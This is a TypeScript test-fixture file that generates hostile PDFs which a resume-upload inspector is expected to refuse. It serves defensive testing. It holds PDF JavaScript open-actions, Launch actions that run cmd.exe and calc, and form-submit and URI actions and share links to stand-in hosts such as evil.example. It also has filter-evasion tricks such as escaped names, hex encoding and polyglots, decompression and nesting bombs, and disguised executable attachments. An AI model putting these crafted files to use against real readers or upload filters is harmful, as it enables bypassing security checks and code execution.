/** PDFs that must be refused: one for each rule of the inspection. */
import { Buffer } from 'node:buffer'
import { deflateSync } from 'node:zlib'
import type { ResumeFinding } from '@lanternfield/contract/answer-copy.ts'
import { docx } from './docx.ts'
import { ENCRYPTIONS, encryptedPdf } from './encrypted-pdfs.ts'
import {
  type PackedList,
  type PdfExtras,
  packedPdfObjects,
  packedPdfStream,
  pdf,
  pdfOfPackedObjects,
  pdfStream,
  pdfWithUpdate,
} from './pdf.ts'
import { aPdf, type Content, type HostileResume, refused } from './resume-example.ts'
import { zip } from './zip.ts'

const refusedAs = (finding: ResumeFinding) => (name: string, content: Content<PdfExtras>) =>
  refused(aPdf)(finding, name, content)
const format = refusedAs('format')
const broken = refusedAs('broken')
const locked = refusedAs('protected')
const active = refusedAs('active')
const embedded = refusedAs('embedded')
const remote = refusedAs('remote')
const oversized = refusedAs('oversized')

const HTML = '<html><body><script>alert(1)</script></body></html>'
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const OPENS_WITH_SCRIPT = { catalog: `/OpenAction ${SCRIPT}` }
const OPENS_WITH_6 = '/OpenAction 6 0 R'
const LINK = '/Type /Annot /Subtype /Link /Rect [0 0 9 9]'

/** A PDF that runs a script when it opens, with a change to its bytes. */
const changed = (change: (file: string) => string) => () =>
  Buffer.from(change(pdf('Mira', OPENS_WITH_SCRIPT).toString('latin1')), 'latin1')

const shells = [
  format('nothing but a letter', () => Buffer.from('x')),
  format('HTML before it', () => Buffer.concat([Buffer.from(HTML), pdf()])),
  format('nothing but a DOCX', () => docx()),
  format('an archive behind it', () =>
    Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }], '\n%%EOF\n')]),
  ),
  broken('HTML behind it', () => Buffer.concat([pdf(), Buffer.from(HTML)])),
  broken('only its first half', () => pdf().subarray(0, 500)),
  broken('no pages', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /A 1 >>\nendobj\n%%EOF\n')),
  active(
    'a script and no header',
    changed((file) => file.replace('%PDF-1.4\n', '')),
  ),
  active(
    'a script and a wrong table',
    changed((file) => file.replace(/startxref\n\d+/, 'startxref\n5')),
  ),
  active('a script that an update adds', () =>
    pdfWithUpdate({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>` }),
  ),
  active('a script that an update removes', () =>
    pdfWithUpdate({ 1: '<< /Type /Catalog /Pages 2 0 R >>' }, OPENS_WITH_SCRIPT),
  ),
  active('a script behind its end', () =>
    Buffer.concat([
      pdf('Mira', { catalog: OPENS_WITH_6 }),
      Buffer.from(`6 0 obj ${SCRIPT} endobj\n`),
    ]),
  ),
]

/** The same script, its names and numbers written in ways that readers understand. */
const spellings = [
  ...[
    ['under escaped names', '/Open#41ction << /S /J#61v#61Script /#4a#53 (app.alert\\(1\\)) >>'],
    [
      'between comments and blanks of every sort',
      '/OpenAction\0%\n<<\f/S% x\n/JavaScript%\r/JS\t(app.alert\\(1\\))>>',
    ],
    ['in hexadecimal', '/OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>'],
    ['as the first of two values', `/OpenAction ${SCRIPT} /OpenAction [3 0 R /Fit]`],
    ['as the last of two values', `/OpenAction [3 0 R /Fit] /OpenAction ${SCRIPT}`],
    ['behind a value too many', `/OpenAction 5 ${SCRIPT}`],
  ].map(([way, catalog = '']) => active(`a script ${way}`, { catalog })),
  ...[
    ['with comments', '/OpenAction 6%1 0 R\n0 R'],
    ['with a sign', '/OpenAction +6 0 R'],
  ].map(([way, catalog = '']) =>
    active(`a script under a reference ${way}`, { catalog, objects: [SCRIPT] }),
  ),
  active('a script in the data of a picture', {
    catalog: '/OpenAction 9 0 R',
    objects: [pdfStream('', `9 0 obj ${SCRIPT} endobj`)],
  }),
  active('an address in an object whose number is in a comment', {
    catalog: '/OpenAction 20 0 R',
    objects: ['null endobj 20 % 9\n0 obj << /S /URI /URI (https://evil.example/x) >>'],
  }),
]

const packed = (name: string, list: PackedList, refusal = active) =>
  refusal(`a script in packed objects ${name}`, () =>
    pdfOfPackedObjects('/OpenAction 8 0 R', ['[0 0 612 792]', 'null', SCRIPT], list),
  )
const flat = (pairs: readonly (readonly [number, number])[]) => pairs.flat().join(' ')
const packedIn = (text: string) => deflateSync(Buffer.from(text, 'latin1'))
/** Each row of ten bytes is predicted in the way that its first byte says. */
const predicted = (text: string) =>
  packedIn(text.replace(/.{1,10}/gs, (row) => `\0${row.padEnd(10)}`))
const stream = (
  name: string,
  keys: string,
  data: (text: string) => string | Uint8Array,
  refusal = active,
) =>
  refusal(`a script in a stream ${name}`, {
    catalog: '/OpenAction 50 0 R',
    objects: [pdfStream(`${keys} /N 1 /First 5`, data(`50 0 ${SCRIPT}`))],
  })

const packings = [
  packed('', {}),
  packed('whose list has comments', {
    write: ([[number, offset] = [0, 0], ...pairs]) =>
      `% 1\n${number} % 1\r${offset} ${flat(pairs)}`,
  }),
  packed('whose list ends early', { first: 3 }, broken),
  packed('whose list has a sign', { write: (pairs) => `+${flat(pairs)}` }, broken),
  packed('of which fewer are announced', { count: 1 }, broken),
  broken('packed objects that begin in two places', {
    objects: [packedPdfStream('/N 1 /First 5 /First 500', '1 0  null')],
  }),
  broken('packed objects that begin behind their stream', {
    objects: [packedPdfStream('/N 1 /First 500', '1 0  null')],
  }),
  stream('without a filter', '/Type /ObjStm', (text) => text),
  stream('without a type', '/Filter [/Fl]', packedIn),
  stream(
    'with a predictor',
    '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
    predicted,
  ),
  stream(
    'with a predictor of pictures',
    '/Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 10 >>',
    packedIn,
    broken,
  ),
  stream(
    'with two filters',
    '/Filter [/ASCIIHexDecode /FlateDecode]',
    (text) => `${packedIn(text).toString('hex')}>`,
    broken,
  ),
  stream('that is not packed as it says', '/Filter /FlateDecode', (text) => text, broken),
  oversized('packed objects that inflate without end', () =>
    pdf('Mira', { objects: [packedPdfStream('/N 1 /First 5', ' '.repeat(30_000_000))] }),
  ),
  broken('brackets without end', () =>
    Buffer.from(`%PDF-1.4\n1 0 obj\n${'['.repeat(1_000_000)}\n%%EOF`),
  ),
  broken('objects within objects without end', () =>
    Buffer.from(`%PDF-1.4\n${'1 0 obj('.repeat(200_000)}\n%%EOF`),
  ),
  broken('a list of a million values', () =>
    pdf('Mira', { objects: [packedPdfObjects([`[${'/A'.repeat(1_000_000)}]`])] }),
  ),
]

/** The places from which a reader starts an action by itself. */
const places = [
  active('a script when it is printed', { catalog: `/AA << /WP ${SCRIPT} >>` }),
  active('a script when a page is shown', { page: '/AA 6 0 R', objects: [`<< /O ${SCRIPT} >>`] }),
  active('a script when a field is typed in', {
    page: `/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${SCRIPT} >> >>]`,
  }),
  active('a script in the tree of names', {
    catalog: '/Names 6 0 R',
    objects: ['<< /JavaScript 7 0 R >>', '<< /Kids [8 0 R] >>', '<< /Names [(a) 9 0 R] >>', 'null'],
  }),
  active('a script of a link', { page: `/Annots [<< ${LINK} /A ${SCRIPT} >>]` }),
  active('a script as a stream', {
    catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
    objects: [pdfStream('', 'app.alert(1)')],
  }),
  active('a script of a form in XML', {
    catalog: '/AcroForm << /XFA 7 0 R >>',
    objects: [
      'null',
      '[(template) 8 0 R]',
      packedPdfStream('', '<t:template><t:script>app.alert(1)</t:script></t:template>'),
    ],
  }),
  active('a script of a scene', {
    objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x')],
  }),
  active('a film', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
  active('an action whose name is elsewhere', {
    catalog: '/OpenAction << /S 6 0 R /URI (https://evil.example) >>',
    objects: ['/URI'],
  }),
  active('an address after a harmless action', {
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>',
    objects: ['null', '<< /S /GoTo /Next 8 0 R >>', '<< /S /URI /URI (https://evil.example) >>'],
  }),
  broken('actions after one another without end', {
    catalog: OPENS_WITH_6,
    objects: Array.from({ length: 100 }, (_, index) => `<< /S /GoTo /Next ${index + 7} 0 R >>`),
  }),
]

/** What an action must not do when the file opens. */
const actions = [
  ['an address', '/S /URI /URI (https://evil.example)'],
  ['another file', '/S /GoToR /F (cover.pdf) /D [0 /Fit]'],
  ['a file within the file', '/S /GoToE /T << /R /C /N (a) >>'],
  ['a program', '/S /Launch /F (cmd.exe)'],
  ['a program of Windows', '/S /Launch /Win << /F (cmd) /P (/c calc) >>'],
  ['a form to be sent', '/S /SubmitForm /F << /FS /URL /F (https://evil.example) >>'],
  ['a film of an address', '/S /Rendition /OP 0'],
  ['a command of the menu', '/S /Named /N /SaveAs'],
].map(([name = '', action]) =>
  active(`${name} when it opens`, { catalog: OPENS_WITH_6, objects: [`<< ${action} >>`] }),
)

const linkTo = (file: string) => `/Annots [<< ${LINK} /A << /S /GoToR /F ${file} /D [0 /Fit] >> >>]`
const linkToAddress = (address: string) =>
  `/Annots [<< ${LINK} /A << /S /URI /URI (${address}) >> >>]`
const links = [
  active('a link to a script', { page: linkToAddress(' JavaScript:app.alert\\(1\\)') }),
  remote('a link to an address on a share', { page: linkToAddress('\\\\\\\\evil\\\\x') }),
  remote('a link to a share', { page: linkTo('(\\\\\\\\evil.example\\\\x)') }),
  active('a document on a share when it opens', {
    catalog: '/OpenAction << /S /Launch /F (\\\\\\\\evil\\\\a.pdf) >>',
  }),
  remote('a link to a share in packed objects', () =>
    pdfOfPackedObjects(linkTo('6 0 R'), ['(//evil.example/x)']),
  ),
  remote('a link to a share as an address', { page: linkTo('<< /UF (file://evil.example/x) >>') }),
  remote('a link to a share in UTF-16', {
    page: linkTo('<< /UF <FEFF005C005C006500760069006C> >>'),
  }),
  remote('a stream whose data lies at an address', {
    objects: [pdfStream('/F 7 0 R', ''), '<< /FS /URL /F (https://evil.example/x) >>'],
  }),
  remote('a stream with a filter for data from elsewhere', {
    objects: [pdfStream('/FFilter /FlateDecode', '')],
  }),
]

const attached = (name: string, fileName: string, data: string) =>
  embedded(`an attachment: ${name}`, {
    catalog: '/Names << /Embedded#46iles << /Names [(a) 6 0 R] >> >>',
    objects: [
      `<< /Type /Filespec /F (${fileName}) /#45#46 << /F 7 0 R >> >>`,
      packedPdfStream('/Type /EmbeddedFile', data),
    ],
  })
const attachments = [
  attached('a program called XML', 'a.xml', 'MZ\0\0'),
  attached('XML called a program', 'a.hta', '<a/>'),
  attached('a page with an event', 'a.html', '<style onload=alert(1)></style>'),
  attached('XML that is shown as a page', 'a.xml', '<a xmlns:h="http://www.w3.org/1999/xhtml"/>'),
  attached('XML in an encoding that hides it', 'a.xml', '<?xml version="1.0" encoding="UTF-7"?>'),
  attached('more than is looked at', 'a.xml', ' '.repeat(5_000_000)),
  embedded('an attachment that is not there', { objects: ['<< /F (a.xml) /EF << /F 9 0 R >> >>'] }),
  embedded('an attachment without a name', { objects: [pdfStream('/Type /EmbeddedFile', '<a/>')] }),
  embedded('an attachment at a place of the page', {
    page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.xml) >> >>]',
  }),
]

const encrypted = ENCRYPTIONS.flatMap((encryption) => [
  active(`a script in ${encryption}`, () => encryptedPdf(encryption, 'script')),
  remote(`a link to a share in ${encryption}`, () => encryptedPdf(encryption, 'link')),
  locked(`a password in ${encryption}`, () => encryptedPdf(encryption, 'locked')),
])

export const hostilePdfs: readonly HostileResume[] = [
  ...shells,
  ...spellings,
  ...packings,
  ...places,
  ...actions,
  ...links,
  ...attachments,
  ...encrypted,
  locked('an encryption that is unknown', {
    objects: ['<< /Filter /Certificate /V 2 /R 3 /O (x) /U (y) /P -4 >>'],
    trailer: '/Encrypt 6 0 R',
  }),
  broken('two encryptions', {
    objects: ['<< /Filter /Standard /V 1 >>'],
    trailer: '/Encrypt 6 0 R /Encrypt << /Filter /Standard /V 2 >>',
  }),
]
